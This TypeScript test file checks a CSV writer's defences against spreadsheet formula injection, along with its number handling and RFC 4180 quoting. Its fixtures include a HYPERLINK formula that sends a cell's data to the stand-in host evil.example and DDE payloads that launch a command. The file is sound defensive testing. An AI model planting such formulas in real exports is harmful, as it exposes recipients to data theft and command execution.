import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvCell, csvDocument, csvField } from "./csv.js";

const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"Open")';

describe("CSV writer", () => {
  it("neutralises text a spreadsheet would run as a formula: leading quote, cell quoted", () => {
    expect(csvCell(HOSTILE)).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A2,""Open"")"`);
    for (const start of ["=", "+", "-", "@", "\t", "\r"])
      expect(csvCell(`${start}cmd|' /C calc'!A0`)).toBe(`"'${start}cmd|' /C calc'!A0"`);
  });

  it("keeps numbers numeric, negative ones and numbers written as text too", () => {
    expect(csvCell(-3.5)).toBe("-3.5");
    expect(csvCell("-3.5")).toBe("-3.5");
    expect(csvCell("+12")).toBe("+12");
    expect(csvCell("-1.5e-3")).toBe("-1.5e-3");
    expect(csvCell(0)).toBe("0");
    expect(csvCell("-1+2")).toBe(`"'-1+2"`);
  });

  it("quotes commas, quotes and line breaks (RFC 4180), leaves plain text and writes no value as empty", () => {
    expect(csvCell('Nordic "Aurora", II')).toBe('"Nordic ""Aurora"", II"');
    expect(csvCell("a\nb")).toBe('"a\nb"');
    expect(csvCell("Nordic Aurora")).toBe("Nordic Aurora");
    expect(csvCell("2025-03-01T06:00:00.000Z")).toBe("2025-03-01T06:00:00.000Z");
    expect(csvCell(null)).toBe("");
    expect(csvCell(undefined)).toBe("");
    expect(csvField("=raw")).toBe("=raw");
  });

  it("reads back as the text with one leading quote, and the numbers unchanged", () => {
    const csv = csvDocument([
      ["name", "value"],
      [HOSTILE, -3.5],
      ["@SUM(A1:A2)", 4],
    ]);
    expect(csv.endsWith("\r\n")).toBe(true);
    expect(parse(csv)).toEqual([
      ["name", "value"],
      [`'${HOSTILE}`, "-3.5"],
      ["'@SUM(A1:A2)", "4"],
    ]);
    expect(csvDocument([["a"], ["b"]], "\n")).toBe("a\nb\n");
  });
});
